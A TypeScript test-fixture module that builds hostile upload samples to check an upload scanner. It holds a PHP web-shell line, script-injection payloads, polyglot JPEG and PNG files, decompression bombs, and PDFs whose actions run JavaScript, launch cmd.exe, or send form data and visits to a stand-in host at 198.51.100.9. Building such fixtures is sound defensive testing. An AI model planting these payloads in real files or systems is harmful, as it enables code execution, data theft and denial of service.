import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { samplePdf, samplePng } from './upload.js';

/**
 * Files an attacker would upload (issue 9 §3), built in memory so the repository holds no
 * live payloads. Every payload carries the markers that `hasPayload` looks for.
 */
export const PAYLOAD = '<script>alert(document.cookie)</script><?php system($_GET["c"]); ?>';

/** Whether bytes served back still carry anything a browser or PHP would run. */
export function hasPayload(bytes: Buffer): boolean {
  const text = bytes.toString('latin1').toLowerCase();
  return text.includes('<script') || text.includes('<?php') || text.includes('alert(');
}

export const phpShell = () => Buffer.from('<?php system($_GET["c"]); ?>\n');

export const htmlPage = () => Buffer.from(`<!DOCTYPE html><html><body>${PAYLOAD}</body></html>\n`);

export const svgWithScript = () =>
  Buffer.from(
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${PAYLOAD}</svg>\n`,
  );

export const sampleJpeg = () =>
  sharp({ create: { width: 48, height: 32, channels: 3, background: { r: 10, g: 120, b: 60 } } })
    .jpeg()
    .toBuffer();

/** A valid JPEG with the payload in a comment segment and again after the end-of-image marker. */
export async function polyglotJpeg(): Promise<Buffer> {
  const jpeg = await sampleJpeg();
  const text = Buffer.from(PAYLOAD);
  const com = Buffer.alloc(4);
  com.writeUInt16BE(0xfffe, 0);
  com.writeUInt16BE(text.length + 2, 2);
  // SOI, then the comment, then the rest of the image, then the payload after EOI.
  return Buffer.concat([jpeg.subarray(0, 2), com, text, jpeg.subarray(2), text]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUInt32BE(data.length, 0);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body), 0);
  return Buffer.concat([head, body, crc]);
}

/** A valid PNG with the payload in a tEXt chunk and again after IEND. */
export async function polyglotPng(): Promise<Buffer> {
  const png = await samplePng();
  const iend = png.length - 12;
  const text = pngChunk('tEXt', Buffer.from(`Comment\0${PAYLOAD}`, 'latin1'));
  return Buffer.concat([png.subarray(0, iend), text, png.subarray(iend), Buffer.from(PAYLOAD)]);
}

/**
 * A decompression bomb: a 1-bit greyscale PNG of width × height black pixels. 30000 ×
 * 30000 is about 110 KB on disk and 900 million pixels once decoded.
 */
export function pngBomb(width = 30_000, height = 30_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([1, 0, 0, 0, 0], 8); // bit depth 1, greyscale, deflate, no filter, no interlace
  const rowBytes = 1 + Math.ceil(width / 8);
  const idat = deflateSync(Buffer.alloc(rowBytes * height), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A small JPEG whose frame header claims 65000 × 65000 pixels. */
export async function jpegBomb(): Promise<Buffer> {
  const jpeg = Buffer.from(await sampleJpeg());
  for (let i = 2; i < jpeg.length - 9; i++) {
    if (jpeg[i] === 0xff && jpeg[i + 1]! >= 0xc0 && jpeg[i + 1]! <= 0xc2) {
      jpeg.writeUInt16BE(65_000, i + 5);
      jpeg.writeUInt16BE(65_000, i + 7);
      return jpeg;
    }
  }
  throw new Error('no frame header in the sample JPEG');
}

const pdfWith = (objects: string) =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R ${objects} >> endobj\n` +
      '2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n' +
      'trailer << /Root 1 0 R >>\n%%EOF\n',
    'latin1',
  );

/** A PDF whose opening action runs JavaScript. */
export const pdfOpenActionJs = () =>
  pdfWith('/OpenAction << /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>');

/** The same, with the names hex-escaped as PDF allows (/J#61vaScript is /JavaScript). */
export const pdfEscapedJs = () =>
  pdfWith('/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>');

/** A PDF that launches a program from a link annotation's additional action. */
export const pdfLaunch = () => pdfWith('/AA << /O << /S /Launch /F (cmd.exe) /P (/c calc) >> >>');

/** A PDF 1.5 whose JavaScript action sits inside a compressed object stream. */
export function pdfJsInObjectStream(): Buffer {
  // An object stream starts with "number offset" pairs, then the objects (here: object 3).
  const packed = deflateSync(Buffer.from('3 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>'));
  return Buffer.concat([
    Buffer.from(
      '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n' +
        '2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n' +
        `4 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
      'latin1',
    ),
    packed,
    Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1'),
  ]);
}

/** A PDF with a stream, the stream's data deflated when `packed`. */
function pdfWithStream(dictionary: string, data: string, packed: boolean): Buffer {
  const bytes = packed ? deflateSync(Buffer.from(data, 'latin1')) : Buffer.from(data, 'latin1');
  const filter = packed ? ' /Filter /FlateDecode' : '';
  return Buffer.concat([
    Buffer.from(
      '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n' +
        '2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n' +
        `3 0 obj << ${dictionary}${filter} /Length ${bytes.length} >>\nstream\n`,
      'latin1',
    ),
    bytes,
    Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1'),
  ]);
}

/**
 * Issue 17 §7: one file per construct the scanner did not refuse before. Each would act in
 * a desktop viewer: XML forms with scripts, actions on page or field events, an opening
 * action that visits a web address, form data sent out, other files opened or imported,
 * and a script hidden in the compressed data of an ordinary stream.
 */
export const pdfXfa = () => pdfWith('/AcroForm << /Fields [] /XFA [(template) 3 0 R] >>');
export const pdfPageAction = () => pdfWith('/AA << /WC << /S /Named /N /Print >> >>');
export const pdfOpenActionUri = () =>
  pdfWith('/OpenAction << /S /URI /URI (http://198.51.100.9/collect) >>');
export const pdfOpenActionUriByReference = () =>
  Buffer.from(
    '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n' +
      '2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n' +
      '3 0 obj << /S /URI /URI (http://198.51.100.9/collect) >> endobj\n' +
      'trailer << /Root 1 0 R >>\n%%EOF\n',
    'latin1',
  );
export const pdfSubmitForm = () =>
  pdfWith('/OpenAction << /S /Submit#46orm /F (http://198.51.100.9/) /Flags 4 >>');
export const pdfGoToR = () =>
  pdfWith('/OpenAction << /S /GoToR /F (\\\\198.51.100.9\\share\\a.pdf) /D [0 /Fit] >>');
export const pdfImportData = () => pdfWith('/OpenAction << /S /ImportData /F (data.fdf) >>');
export const pdfJsInOrdinaryStream = () =>
  pdfWithStream('', '<< /S /JavaScript /JS (app.launchURL\\(1\\)) >>', true);

/** Ordinary PDFs the stricter scanner must still take: a link, a subset font, an image. */
export const pdfLinkAnnotation = () =>
  pdfWith(
    '/Names << >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://mahapolice.gov.in) >> >>]',
  );
export const pdfSubsetFont = () =>
  pdfWith('/Fonts << /F1 << /Type /Font /Subtype /Type0 /BaseFont /AAAAAB+Mangal >> >>');
export const pdfRandomImage = (data: Buffer) =>
  Buffer.concat([
    Buffer.from(
      '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n' +
        '2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n' +
        `3 0 obj << /Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode /Length ${data.length} >>\nstream\n`,
      'latin1',
    ),
    data,
    Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1'),
  ]);

/** A plain PDF with an opening action that only sets the view: legitimate, accepted. */
export const pdfOpenActionView = () => pdfWith('/OpenAction [3 0 R /FitH null]');

export { samplePdf };
